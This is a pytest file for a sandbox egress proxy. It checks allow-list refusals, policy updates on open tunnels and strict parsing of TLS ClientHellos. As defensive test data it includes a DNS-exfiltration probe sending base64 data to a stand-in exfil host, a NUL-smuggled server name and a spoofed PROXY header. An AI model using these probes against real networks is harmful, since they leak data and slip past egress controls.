"""The egress proxy and the in-box relay on this machine, no container involved.

Every server a test talks to is one it started on 127.0.0.1. The proxy decides with
the real policy code; only its two ways out are replaced in `LoopbackProxy`: its
resolver answers from a table (and records every name it is asked for) and an allowed
decision for the table's public address is reached at the test's loopback server.
Refusals need no redirection: they never connect anywhere.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.server
import json
import socket
import ssl
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandkit.net import relay, state
from sandkit.net.cli import control
from sandkit.net.policy import Decision, PolicyError
from sandkit.net.proxy import (
    BadRequest,
    EgressProxy,
    Hello,
    parse_head,
    read_client_hello,
    short_unix_path,
    split_authority,
)

from .net_support import make_certificate

FAKE_PUBLIC = "93.184.216.34"  # decided on, never connected to
BOUND_S = 20.0


class LoopbackProxy(EgressProxy):
    """Decides for real. Its resolver knows only `upstreams` (as FAKE_PUBLIC) and records
    each name it is asked; FAKE_PUBLIC is reached at the test's loopback server."""

    upstreams: dict[str, int] = {}
    resolved: list[str] = []

    async def _resolve(self, name: str, port: int) -> list[str]:
        self.resolved.append(name)
        if name not in self.upstreams:
            raise OSError(-2, "Name or service not known")  # the test's world ends here
        return [FAKE_PUBLIC]

    async def _connect(self, decision: Decision, port: int) -> Any:
        # Only ever the test's own server: a decision that wrongly allowed anything else
        # fails the test here instead of sending a packet.
        assert decision.addresses == (FAKE_PUBLIC,), decision
        loopback = Decision(True, addresses=("127.0.0.1",))
        return await super()._connect(loopback, self.target_port)

    target_port = 0


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        body = json.dumps({"path": self.path, "host": self.headers.get("Host")}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        data = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def upstream() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.fixture
def tls_upstream(tmp_path: Path) -> Iterator[tuple[int, Path]]:
    cert, key = make_certificate(tmp_path, ["pkg.test", "other.test"])
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], cert
    server.shutdown()
    server.server_close()


class Running:
    """A proxy and a relay on threads of their own, over a state dir in tmp_path."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.loop = asyncio.new_event_loop()
        self.proxy = LoopbackProxy(str(root))
        self.proxy.resolved = []
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.relay_port = _free_port()
        self.relay_thread: threading.Thread | None = None

    def _run(self) -> None:
        asyncio.set_event_loop(self.loop)
        with contextlib.suppress(asyncio.CancelledError):
            self.loop.run_until_complete(self.proxy.serve_forever())

    def box(self, name: str, policy: dict[str, Any]) -> Path:
        """A box's policy written by the providers' writer; the proxy's socket for it."""
        egress = Path(state.box_dir(self.root, name), state.EGRESS)
        egress.mkdir(parents=True, exist_ok=True)
        state.write_policy(self.root, name, policy)
        return egress / state.SOCKET

    def start(self) -> None:
        self.thread.start()
        deadline = time.monotonic() + BOUND_S
        while not (self.root / state.CONTROL).exists():
            assert time.monotonic() < deadline, "the proxy did not start"
            time.sleep(0.02)

    def sync(self) -> dict[str, Any]:
        return control(str(self.root), {"op": "sync"})

    def start_relay(self, sock: Path) -> str:
        self.relay_thread = threading.Thread(
            target=relay.run_out, args=(f"127.0.0.1:{self.relay_port}", str(sock)), daemon=True
        )
        self.relay_thread.start()
        deadline = time.monotonic() + BOUND_S
        while True:
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", self.relay_port), 1),
            ):
                break
            assert time.monotonic() < deadline, "the relay did not start"
            time.sleep(0.02)
        return f"http://127.0.0.1:{self.relay_port}"

    def stop(self) -> None:
        for task in asyncio.all_tasks(self.loop):
            self.loop.call_soon_threadsafe(task.cancel)
        self.thread.join(5)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture
def running(tmp_path: Path) -> Iterator[Running]:
    root = tmp_path / "net"
    root.mkdir()
    state.write_json(root / state.CONFIG, {"hosts": {}, "denied": []})
    proxy = Running(root)
    yield proxy
    proxy.stop()


def _opener(proxy_url: str, cafile: Path | None = None) -> urllib.request.OpenerDirector:
    handlers: list[Any] = [urllib.request.ProxyHandler({"http": proxy_url, "https": proxy_url})]
    if cafile is not None:
        context = ssl.create_default_context(cafile=str(cafile))
        handlers.append(urllib.request.HTTPSHandler(context=context))
    return urllib.request.build_opener(*handlers)


ALLOW = {"mode": "allow", "allow": ["pkg.test"], "deny": []}


def test_allowed_http_and_https_work_through_relay_and_proxy(
    running: Running, upstream: int, tls_upstream: tuple[int, Path]
) -> None:
    sock = running.box("b1", ALLOW)
    running.start()
    url = running.start_relay(sock)
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = upstream
    with _opener(url).open("http://pkg.test/simple/?q=1", timeout=BOUND_S) as reply:
        seen = json.loads(reply.read())
    assert seen == {"path": "/simple/?q=1", "host": "pkg.test"}
    running.proxy.target_port = tls_upstream[0]
    with _opener(url, tls_upstream[1]).open("https://pkg.test/x", timeout=BOUND_S) as reply:
        assert json.loads(reply.read())["path"] == "/x"


def test_refusals_are_fast_and_say_why(running: Running, upstream: int) -> None:
    sock = running.box("b1", ALLOW)
    running.start()
    url = running.start_relay(sock)
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = upstream
    cases = {
        "http://evil.test/": "not in this sandbox's egress allow list",
        "https://evil.test/": "not in this sandbox's egress allow list",
        "http://10.0.0.1/": "private address",
        "http://[fd00::1]/": "private address",
        f"http://{FAKE_PUBLIC}/": "needs a CIDR rule",
        "http://localhost/": "no sandbox may reach",
        "http://127.0.0.1/": "no sandbox may reach",
        "http://2130706433/": "not a host name",
        "http://pkg.test:8080/": "not in this sandbox's egress allow list",
    }
    for target, words in cases.items():
        started = time.monotonic()
        with pytest.raises((urllib.error.HTTPError, urllib.error.URLError)) as info:
            _opener(url).open(target, timeout=BOUND_S)
        assert time.monotonic() - started < BOUND_S
        text = str(info.value) + str(getattr(info.value, "reason", ""))
        if isinstance(info.value, urllib.error.HTTPError):
            text += info.value.read().decode()
        assert "sandkit egress" in text and words in text, (target, text)


def test_policy_changes_apply_to_new_and_open_connections(running: Running, upstream: int) -> None:
    sock = running.box("b1", ALLOW)
    running.start()
    url = running.start_relay(sock)
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = upstream
    assert _opener(url).open("http://pkg.test/", timeout=BOUND_S).status == 200
    # An open CONNECT tunnel to the upstream, then the policy goes to none.
    tunnel = socket.create_connection(("127.0.0.1", running.relay_port), BOUND_S)
    tunnel.sendall(b"CONNECT pkg.test:80 HTTP/1.1\r\nHost: pkg.test:80\r\n\r\n")
    assert tunnel.recv(1024).startswith(b"HTTP/1.1 200")
    running.box("b1", {"mode": "none"})
    running.sync()
    tunnel.settimeout(BOUND_S)
    assert tunnel.recv(1024) == b"", "the open tunnel must be closed"
    tunnel.close()
    with pytest.raises(urllib.error.HTTPError) as info:
        _opener(url).open("http://pkg.test/", timeout=BOUND_S)
    assert info.value.code == 403 and "policy none" in str(info.value)
    running.box("b1", ALLOW)
    running.sync()
    assert _opener(url).open("http://pkg.test/", timeout=BOUND_S).status == 200


def test_tls_server_name_must_match_or_be_allowed(
    running: Running, tls_upstream: tuple[int, Path]
) -> None:
    sock = running.box("b1", ALLOW)
    running.start()
    running.start_relay(sock)
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = tls_upstream[0]
    context = ssl.create_default_context(cafile=str(tls_upstream[1]))

    def through_tunnel(sni: str) -> bytes:
        raw = socket.create_connection(("127.0.0.1", running.relay_port), BOUND_S)
        raw.sendall(b"CONNECT pkg.test:443 HTTP/1.1\r\n\r\n")
        assert raw.recv(1024).startswith(b"HTTP/1.1 200")
        with context.wrap_socket(raw, server_hostname=sni) as tls:
            tls.sendall(b"GET /sni HTTP/1.1\r\nHost: " + sni.encode() + b"\r\n\r\n")
            return tls.recv(4096)

    assert b"200 OK" in through_tunnel("pkg.test")
    with pytest.raises((ssl.SSLError, ConnectionError, OSError)):
        through_tunnel("other.test")  # the certificate is fine; the policy is not


def test_relay_says_when_the_proxy_is_gone(tmp_path: Path) -> None:
    port = _free_port()
    threading.Thread(
        target=relay.run_out, args=(f"127.0.0.1:{port}", str(tmp_path / "none.sock")), daemon=True
    ).start()
    deadline = time.monotonic() + BOUND_S
    while True:
        try:
            with pytest.raises(urllib.error.HTTPError) as info:
                _opener(f"http://127.0.0.1:{port}").open("http://pkg.test/", timeout=BOUND_S)
            break
        except urllib.error.URLError:  # not listening yet
            assert time.monotonic() < deadline
            time.sleep(0.05)
    assert info.value.code == 503 and "egress proxy is not reachable" in str(info.value)


def test_relay_waits_for_room_at_a_busy_proxy_instead_of_dropping(tmp_path: Path) -> None:
    # A listener whose queue is full (it accepts nothing for a while): every connection
    # the relay opens upstream waits, then delivers its bytes once accepting resumes.
    path = str(tmp_path / "busy.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    listener.listen(1)
    count = 6

    async def burst() -> list[bytes]:
        async def one(i: int) -> bytes:
            _, writer = await relay.open_unix(path, within_s=BOUND_S)
            writer.write(b"%d\n" % i)
            await writer.drain()
            writer.close()
            return b"sent"

        return await asyncio.gather(*(one(i) for i in range(count)))

    got: list[bytes] = []

    def accept_later() -> None:
        time.sleep(0.3)  # every connect past the queue meets EAGAIN meanwhile
        for _ in range(count):
            conn, _ = listener.accept()
            with conn:
                conn.settimeout(BOUND_S)
                got.append(conn.recv(16))

    acceptor = threading.Thread(target=accept_later, daemon=True)
    acceptor.start()
    try:
        assert asyncio.run(burst()) == [b"sent"] * count
        acceptor.join(BOUND_S)
        assert sorted(got) == sorted(b"%d\n" % i for i in range(count))
        # Nobody accepting at all: a bounded wait, then a clear error.
        filling = []
        while True:  # fill the queue
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.setblocking(False)
            filling.append(sock)
            try:
                sock.connect(path)
            except BlockingIOError:
                break
        with pytest.raises(OSError):
            asyncio.run(relay.open_unix(path, within_s=0.2))
        for sock in filling:
            sock.close()
    finally:
        listener.close()


def test_boxes_are_told_apart_by_their_socket(running: Running, upstream: int) -> None:
    allowed = running.box("allowed", ALLOW)
    closed = running.box("closed", {"mode": "none"})
    running.start()
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = upstream

    def ask(sock: Path) -> bytes:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(BOUND_S)
            _connect(client, sock)
            client.sendall(b"GET http://pkg.test/ HTTP/1.1\r\nHost: pkg.test\r\n\r\n")
            return client.recv(4096)

    assert ask(allowed).startswith(b"HTTP/1.1 200")
    assert ask(closed).startswith(b"HTTP/1.1 403 sandkit egress: egress is off")
    # A box removed from the state dir loses its socket.
    state.remove_policy(running.root, "closed")
    running.sync()
    assert not closed.exists() or not _connects(closed)


def test_a_malformed_policy_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    """The proxy would enforce nothing for a box whose policy it cannot read; the writer
    refuses it instead, and the box's previous policy stays in force."""
    state.write_policy(tmp_path, "box", ALLOW)
    for bad in ({"mode": "sometimes"}, {"mode": "allow", "allow": ["not a host!"]}):
        with pytest.raises(PolicyError):
            state.write_policy(tmp_path, "box", bad)
    assert state.read_json(state.policy_file(tmp_path, "box")) == ALLOW
    state.write_policy(tmp_path, "box", ALLOW, address="10.0.0.7")  # TCP mode: its identity
    assert state.read_json(state.policy_file(tmp_path, "box"))["address"] == "10.0.0.7"


def _connect(client: socket.socket, path: Path) -> None:
    """Connect by a path AF_UNIX can take (a long tmp_path, e.g. under pytest-xdist, is not)."""
    short, done = short_unix_path(str(path))
    try:
        client.connect(short)
    finally:
        done()


def _connects(path: Path) -> bool:
    with socket.socket(socket.AF_UNIX) as client:
        try:
            _connect(client, path)
        except OSError:
            return False
        return True


def test_parsing_helpers() -> None:
    assert parse_head(b"CONNECT a.test:443 HTTP/1.1\r\nHost: a.test\r\n\r\n")[:2] == (
        "CONNECT",
        "a.test:443",
    )
    assert split_authority("[2001:db8::1]:8443", None) == ("2001:db8::1", 8443)
    assert split_authority("a.test", 80) == ("a.test", 80)
    for bad in ("a.test", "[::1", "a:b:c", "a.test:99999"):
        with pytest.raises(BadRequest):
            split_authority(bad, None)
    # Brackets hold an IPv6 address only: no zone, no IPv4 in any notation.
    for bad in ("[10.77.0.10]:80", "[127.1]:80", "[fe80::1%eth0]:80", "[fe80::1%25eth0]:80"):
        with pytest.raises(BadRequest):
            split_authority(bad, None)
    assert read_client_hello(b"GET / HTTP/1.1") == Hello("not-tls")
    assert read_client_hello(b"SSH-2.0-OpenSSH_9.2\r\n") == Hello("not-tls")
    assert read_client_hello(b"\x16\x03").state == "more"


# -- the TLS check: a ClientHello in any framing --------------------------------------

SNI, ECH = 0, 0xFE0D


def real_client_hello(server_name: str) -> bytes:
    """The record(s) Python's own TLS client opens a connection with."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def handshake_bytes(records: bytes) -> bytes:
    """The handshake payload carried by a run of TLS records."""
    out, pos = b"", 0
    while pos < len(records):
        length = int.from_bytes(records[pos + 3 : pos + 5], "big")
        out += records[pos + 5 : pos + 5 + length]
        pos += 5 + length
    return out


def reframe(payload: bytes, sizes: tuple[int, ...] = (), kind: int = 0x16) -> bytes:
    """`payload` as TLS records of the given sizes (the rest in one last record)."""
    out, pos = b"", 0
    for size in (*sizes, len(payload)):
        piece = payload[pos : pos + size]
        if piece:
            out += bytes([kind, 3, 1]) + len(piece).to_bytes(2, "big") + piece
        pos += len(piece)
    return out


def server_name_extension(*names: str, name_type: int = 0) -> bytes:
    entries = b"".join(
        bytes([name_type]) + len(n.encode()).to_bytes(2, "big") + n.encode() for n in names
    )
    return len(entries).to_bytes(2, "big") + entries


def build_client_hello(extensions: list[tuple[int, bytes]] | None) -> bytes:
    """A ClientHello handshake message with exactly these extensions (None: no block)."""
    body = b"\x03\x03" + b"\x11" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    if extensions is not None:
        block = b"".join(
            k.to_bytes(2, "big") + len(d).to_bytes(2, "big") + d for k, d in extensions
        )
        body += len(block).to_bytes(2, "big") + block
    return b"\x01" + len(body).to_bytes(3, "big") + body


def hello_with(*extensions: tuple[int, bytes]) -> bytes:
    return reframe(build_client_hello(list(extensions)))


def test_a_client_hello_is_read_across_records_and_reads() -> None:
    hello = real_client_hello("other.test")
    assert read_client_hello(hello) == Hello("ok", names=("other.test",))
    payload = handshake_bytes(hello)
    for sizes in ((10,), (1, 1, 1, 1), (3, 40, 7), tuple([1] * 60)):
        split = reframe(payload, sizes)
        assert read_client_hello(split) == Hello("ok", names=("other.test",)), sizes
        # Every prefix is "more": nothing is judged on a part of the hello.
        for cut in range(1, len(split), 17):
            assert read_client_hello(split[:cut]).state == "more", (sizes, cut)
    # What follows the hello (a CCS, early data) is not the hello's business.
    assert read_client_hello(hello + b"\x14\x03\x03\x00\x01\x01").names == ("other.test",)


BAD_HELLOS = [
    (b"\x16\x03\x01\x00\x05hello", "not a ClientHello"),
    (
        b"\x15\x03\x03\x00\x02\x01\x00" + hello_with((SNI, server_name_extension("o.test"))),
        "type 21",
    ),
    (b"\x17\x03\x03\x00\x03abc", "type 23"),
    (reframe(build_client_hello([])[:-2] + b"\x00\x10"), "past the end"),
    (
        reframe(build_client_hello([(SNI, server_name_extension("o.test"))]) + b"\x00" * 4),
        "follows",
    ),
    (b"PROXY TCP4 10.0.0.1 10.0.0.2 1 443\r\n" + real_client_hello("o.test"), "PROXY"),
    (b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c" + b"\x00" * 12, "PROXY protocol"),
    (b"\x16\x03\x01\x00\x00", "record of 0 bytes"),
    (b"\x16\x03\x01\x40\x01" + b"\x01" * 5, "record of 16385 bytes"),
    (b"\x16\x03\x05\x00\x04\x01\x00\x00\x00", "version 3.5"),
    (b"\x16\x03\x01\x00\x04\x01\x01\x00\x00", "over 65536 bytes"),
    (reframe(b"\x01" + (70000).to_bytes(3, "big") + b"\x00" * 60000, (16000,) * 4), "over"),
    (hello_with((SNI, server_name_extension("pkg.test", "other.test"))), "2 server names"),
    (hello_with((SNI, server_name_extension("pkg.test", name_type=1))), "type 1"),
    (
        hello_with((SNI, server_name_extension("pkg.test")), (SNI, server_name_extension("o.t"))),
        "twice",
    ),
    (hello_with((SNI, server_name_extension("pkg.test\x00.evil"))), "no host name"),
    (hello_with((SNI, server_name_extension(""))), "no host name"),
    (hello_with((SNI, b"\x00\x00")), "malformed server_name"),
    (hello_with((SNI, server_name_extension("pkg.test") + b"x")), "malformed server_name"),
    (b"\x80\x2e\x01\x03\x01" + b"\x00" * 45, "SSLv2"),
]


@pytest.mark.parametrize(("data", "words"), BAD_HELLOS, ids=[w for _, w in BAD_HELLOS])
def test_what_is_not_one_well_formed_client_hello_is_bad(data: bytes, words: str) -> None:
    hello = read_client_hello(data)
    assert hello.state == "bad" and words in hello.reason, hello


def test_encrypted_client_hello_is_reported() -> None:
    plain = hello_with((SNI, server_name_extension("pkg.test")))
    assert read_client_hello(plain) == Hello("ok", names=("pkg.test",))
    for code in (ECH, 0xFE08, 0xFFCE):
        hidden = hello_with((SNI, server_name_extension("pkg.test")), (code, b"\x00" * 8))
        assert read_client_hello(hidden) == Hello("ok", names=("pkg.test",), ech=True)
    assert read_client_hello(reframe(build_client_hello(None))) == Hello("ok")


@pytest.fixture
def recorder() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback TCP server that keeps what it receives and answers each chunk with
    `SEEN <n>`: a client that reads `SEEN` knows its bytes reached the server."""
    seen: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    stop = threading.Event()

    def serve(conn: socket.socket) -> None:
        with conn:
            conn.settimeout(BOUND_S)
            with contextlib.suppress(OSError):
                while data := conn.recv(65536):
                    seen.append(data)
                    conn.sendall(b"SEEN %d\n" % len(data))

    def accept() -> None:
        while not stop.is_set():
            with contextlib.suppress(TimeoutError, OSError):
                conn, _ = listener.accept()
                threading.Thread(target=serve, args=(conn,), daemon=True).start()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield listener.getsockname()[1], seen
    stop.set()
    thread.join(BOUND_S)
    listener.close()


def _tunnel(running: Running, target: bytes) -> socket.socket:
    raw = socket.create_connection(("127.0.0.1", running.relay_port), BOUND_S)
    raw.sendall(b"CONNECT " + target + b" HTTP/1.1\r\n\r\n")
    assert raw.recv(1024).startswith(b"HTTP/1.1 200"), target
    return raw


def _answer(sock: socket.socket) -> bytes:
    """What comes back: `SEEN` when the bytes reached the server, else the proxy's
    TLS alert (or nothing) and the end of the connection."""
    data = b""
    with contextlib.suppress(ConnectionError):
        while b"SEEN" not in data and (chunk := sock.recv(4096)):
            data += chunk
    return data


@pytest.fixture
def tls_running(running: Running, recorder: tuple[int, list[bytes]]) -> Running:
    sock = running.box("b1", ALLOW)
    running.start()
    running.start_relay(sock)
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = recorder[0]
    return running


def test_a_split_client_hello_is_checked_like_a_whole_one(
    tls_running: Running, recorder: tuple[int, list[bytes]]
) -> None:
    """Issue 32 item 4: SNI other.test was refused in one record, let through as a
    10-byte record plus the rest."""
    payload = handshake_bytes(real_client_hello("other.test"))
    for framing in ((), (10,), (1, 1, 1, 1)):
        with _tunnel(tls_running, b"pkg.test:443") as sock:
            sock.sendall(reframe(payload, framing))
            assert b"SEEN" not in _answer(sock), framing
    # Each byte in a read of its own: still one hello, still refused.
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        for byte in reframe(payload, (10,)):
            sock.sendall(bytes([byte]))
        answer = _answer(sock)
        assert answer == b"\x15\x03\x03\x00\x02\x02\x31", answer  # fatal access_denied
    assert recorder[1] == []
    allowed = reframe(handshake_bytes(real_client_hello("pkg.test")), (10,))
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        sock.sendall(allowed)
        assert b"SEEN" in _answer(sock)
    assert b"".join(recorder[1]) == allowed


REFUSED_FIRST_BYTES = {
    "a warning alert first": b"\x15\x03\x03\x00\x02\x01\x5a" + real_client_hello("other.test"),
    "garbage in a handshake record": b"\x16\x03\x01\x00\x05hello",
    "two server names": hello_with((SNI, server_name_extension("pkg.test", "other.test"))),
    "two server_name extensions": hello_with(
        (SNI, server_name_extension("pkg.test")), (SNI, server_name_extension("other.test"))
    ),
    "encrypted client hello": hello_with(
        (SNI, server_name_extension("pkg.test")), (ECH, b"\x00" * 32)
    ),
    "no server name for a name": hello_with(),
    "over the size bound": reframe(
        b"\x01" + (70000).to_bytes(3, "big") + b"\x00" * 60000, (16000,) * 4
    ),
    "sslv2 format": b"\x80\x2e\x01\x03\x01" + b"\x00" * 45,
}


@pytest.mark.parametrize("first", REFUSED_FIRST_BYTES.values(), ids=REFUSED_FIRST_BYTES.keys())
def test_a_client_hello_that_cannot_be_read_is_refused(
    tls_running: Running, recorder: tuple[int, list[bytes]], first: bytes
) -> None:
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        with contextlib.suppress(ConnectionError):
            sock.sendall(first)
        assert b"SEEN" not in _answer(sock)
    assert recorder[1] == []


def test_a_client_hello_cut_short_is_refused_after_the_time_bound(
    tls_running: Running, recorder: tuple[int, list[bytes]]
) -> None:
    """A part of a hello, then silence: refused when the bound runs out (it used to be
    passed on after 10 s, and the rest with any name after it)."""
    tls_running.proxy.hello_timeout_s = 0.3
    hello = reframe(handshake_bytes(real_client_hello("other.test")), (10,))
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        sock.sendall(hello[:15])
        assert b"SEEN" not in _answer(sock)  # ends once the bound has run out
        with contextlib.suppress(OSError):
            sock.sendall(hello[15:])
    # A hello whose connection ends inside it never reaches the server either.
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        sock.sendall(hello[:15])
        sock.shutdown(socket.SHUT_WR)
        assert b"SEEN" not in _answer(sock)
    assert recorder[1] == []


def test_bytes_that_are_not_tls_pass_and_names_count_only_where_the_policy_has_them(
    tls_running: Running, recorder: tuple[int, list[bytes]]
) -> None:
    """ssh, plain HTTP: passed on unread (the policy holds for the address and port). A
    policy without names (open, CIDR only) does not read the hello at all."""
    for first in (b"SSH-2.0-OpenSSH_9.2\r\n", b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"):
        with _tunnel(tls_running, b"pkg.test:443") as sock:
            sock.sendall(first)
            assert b"SEEN" in _answer(sock)
    other = real_client_hello("other.test")
    tls_running.box("b1", {"mode": "open"})
    tls_running.sync()
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        sock.sendall(other)
        assert b"SEEN" in _answer(sock)
    tls_running.box("b1", {"mode": "open", "deny": ["other.test"]})
    tls_running.sync()
    with _tunnel(tls_running, b"pkg.test:443") as sock:
        sock.sendall(other)
        assert b"SEEN" not in _answer(sock)


def test_no_name_reaches_the_resolver_unless_a_name_rule_could_allow_it(
    running: Running, upstream: int
) -> None:
    """Issue 32 item 3: with a CIDR rule in the policy, every name was looked up before
    its refusal, so `<data>.exfil.test` carried data to the outside resolver."""
    sock = running.box("b1", {"mode": "allow", "allow": ["pkg.test", "10.0.0.0/8:*"]})
    running.start()
    running.start_relay(sock)
    LoopbackProxy.upstreams = {"pkg.test": 0}
    running.proxy.target_port = upstream
    secret = "c2VjcmV0LWRhdGE.exfil.test"
    for request in (
        b"CONNECT %s:80 HTTP/1.1\r\n\r\n" % secret.encode(),
        b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (secret.encode(), secret.encode()),
        b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % secret.encode(),
        b"CONNECT pkg.test:22 HTTP/1.1\r\n\r\n",  # a name rule, but not on this port
    ):
        with socket.create_connection(("127.0.0.1", running.relay_port), BOUND_S) as client:
            client.sendall(request)
            assert client.recv(4096).startswith(b"HTTP/1.1 403"), request
    # A TLS server name is checked without being looked up either.
    with _tunnel(running, b"pkg.test:443") as tunnel:
        tunnel.sendall(real_client_hello("sni-" + secret))
        assert b"SEEN" not in _answer(tunnel)
    assert running.proxy.resolved == ["pkg.test"]  # the CONNECT's own, allowed name
    assert (
        _opener(f"http://127.0.0.1:{running.relay_port}")
        .open("http://pkg.test/", timeout=BOUND_S)
        .status
        == 200
    )
    assert running.proxy.resolved == ["pkg.test", "pkg.test"]
